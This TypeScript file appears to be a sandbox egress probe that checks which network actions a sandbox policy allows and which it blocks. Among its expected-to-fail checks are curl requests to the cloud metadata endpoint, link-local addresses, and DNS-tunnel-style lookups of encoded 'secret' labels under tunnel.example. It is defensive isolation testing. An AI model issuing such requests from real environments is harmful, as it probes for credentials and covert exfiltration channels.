// Runs inside a sandbox, alone: tries what should work there, and what should not. Its one argument is
// the `Aims` as JSON; what it found is its last line, `PROBE:<base64 of JSON>:END`.
import { execFile } from 'node:child_process';
import dgram from 'node:dgram';
import { Resolver, lookup } from 'node:dns/promises';
import net from 'node:net';

/** Ports of the machine around the sandbox, where there is one to reach. */
export type Aims = { ports: Record<string, number> };
export type Tried = { ok: boolean; ms: number; said: string };
export type Found = Record<string, Tried>;

const found: Found = {};
const LATE_MS = 20_000;

/** Does it, and writes down what came of it and how long it took. */
async function attempt(name: string, work: () => Promise<unknown>): Promise<void> {
  const begun = Date.now();
  const tried = await work().then(
    (said) => ({ ok: true, said: String(said) }),
    (error: unknown) => ({ ok: false, said: String(error) }),
  );
  found[name] = { ...tried, said: tried.said.slice(-600), ms: Date.now() - begun };
}

function run(command: string, args: string[], ms = LATE_MS): Promise<string> {
  return new Promise((resolve, reject) => {
    execFile(command, args, { timeout: ms }, (error, stdout, stderr) => {
      if (error === null) resolve(stdout);
      else reject(new Error(`${error.code ?? error.signal}: ${stdout}${stderr}`));
    });
  });
}

/** Fails as curl does where nothing is reached; what is answered, is said with its status. */
const curl = (url: string, ...more: string[]) =>
  run('curl', ['-sS', '-m', '10', '-o', '-', '-w', '\n%{http_code}', ...more, url]);

function tcp(host: string, port: number): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = net.connect({ host, port });
    socket.setTimeout(LATE_MS, () => reject(new Error('nothing came of it')));
    socket.once('connect', () => resolve('connected'));
    socket.once('error', reject);
  });
}

/** Says something, and waits for an answer: that it was taken down alone does not tell that it arrived. */
function talk(host: string, port: number): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = net.connect({ host, port }, () => socket.write('SSH-2.0-probe\r\n\r\n'));
    socket.setTimeout(LATE_MS, () => reject(new Error('nothing came of it')));
    socket.once('data', () => resolve('answered'));
    socket.once('close', () => reject(new Error('it was closed')));
    socket.once('error', reject);
  });
}

/** A question to a name service, by hand: whatever comes back is an answer. */
function udp(host: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = dgram.createSocket('udp4');
    socket.once('message', (answer) => resolve([...answer.subarray(-4)].join('.')));
    socket.once('error', reject);
    setTimeout(() => reject(new Error('nothing came of it')), 900).unref();
    const query = Buffer.from('000101000001000000000000076578616d706c6503636f6d0000010001', 'hex');
    socket.send(query, 53, host, (error) => {
      if (error !== null) reject(error);
    });
  });
}

const aims: Aims = JSON.parse(process.argv[2] ?? '{"ports":{}}');
const REGISTRY = 'https://registry.npmjs.org';
const PY =
  'import urllib.request as u; print(u.urlopen("https://pypi.org/simple/standin-thing/").status)';

// What has to work, through the default policy.
await attempt('node', async () => (await fetch(`${REGISTRY}/-/package.json`)).status);
await attempt('curl', () => curl(`${REGISTRY}/-/package.json`));
await attempt('git', () => run('git', ['ls-remote', `${REGISTRY}/things.git`]));
await attempt('python', () => run('python3', ['-c', PY]));
await attempt('pip', () =>
  run(
    'python3',
    ['-m', 'pip', 'install', '-q', '--no-cache-dir', '--target', 'py', 'standin-thing'],
    90_000,
  ),
);
await attempt('pip brought it', () =>
  run('python3', [
    '-c',
    'import sys; sys.path.insert(0, "py"); import standin_thing; print(standin_thing.WORD)',
  ]),
);
await attempt('npm ci', async () => {
  await run('sh', [
    '-c',
    `mkdir -p project && cd project && curl -sSfO ${REGISTRY}/-/package.json && curl -sSfO ${REGISTRY}/-/package-lock.json`,
  ]);
  await run('sh', ['-c', 'cd project && npm ci --no-progress'], 150_000);
  return run('sh', ['-c', 'ls project/node_modules | wc -l']);
});

/** Where this machine has the program: not every one does. */
async function attemptWith(command: string, work: () => Promise<unknown>): Promise<void> {
  if (await run('sh', ['-c', `command -v ${command}`]).catch(() => null))
    await attempt(command, work);
}
await attemptWith('go', () =>
  run('env', ['GONOSUMDB=*', 'go', 'list', '-m', '-versions', 'example.com/thing']),
);
// As root, which a jail has not: apt has a configuration of its own for whom to trust.
await attemptWith('sudo', async () => {
  const list = 'deb [trusted=yes] https://deb.debian.org/things ./';
  await run('sh', ['-c', `echo '${list}' > sources.list`]);
  const own = ['Dir::Etc::sourcelist=/tmp/probe/sources.list', 'Dir::Etc::sourceparts=-'];
  return run('sudo', ['-n', 'apt-get', 'update', '-qq', ...own.flatMap((one) => ['-o', one])]);
});

// What has not.
await attempt('another host', () => curl('https://example.com/'));
await attempt('another host in the clear', () => curl('http://example.com/'));
await attempt('a redirect inside', () => curl(`${REGISTRY}/moved`, '-L'));
await attempt('writing to a registry', () =>
  curl(`${REGISTRY}/standin-0`, '-X', 'PUT', '-d', '{}'),
);
await attempt('metadata', () => curl('http://169.254.169.254/latest/meta-data/'));
await attempt('metadata, directly', () => curl('http://169.254.169.254/', '--noproxy', '*'));
await attempt('link-local', () => curl('http://[fe80::1]/'));
await attempt('link-local, directly', () => tcp('fe80::1%lo', 80));
await attempt('a made-up name', () => curl('https://c2VjcmV0.tunnel.example/'));
await attempt('a made-up name, looked up', async () => {
  const { address } = await lookup('bG9va2Vk.tunnel.example');
  return address;
});
await attempt('a made-up name, asked for at a name service', () => {
  const resolver = new Resolver({ timeout: 900, tries: 1 });
  resolver.setServers(['1.1.1.1']);
  return resolver.resolve4('c2VjcmV0.tunnel.example');
});
await attempt('raw TCP', () => talk('1.1.1.1', 443));
await attempt('raw TCP at another port', () => talk('1.1.1.1', 22));
await attempt('raw UDP', () => udp('1.1.1.1'));
for (const [name, port] of Object.entries(aims.ports)) {
  await attempt(`${name}, directly`, () => tcp('127.0.0.1', port));
  await attempt(`${name}, asked for`, () => curl(`http://127.0.0.1:${port}/api/health`));
  await attempt(`${name}, by proxy`, () =>
    curl(`http://localhost:${port}/api/health`, '--noproxy', ''),
  );
}
console.log(`PROBE:${Buffer.from(JSON.stringify(found)).toString('base64')}:END`);
process.exit(0);
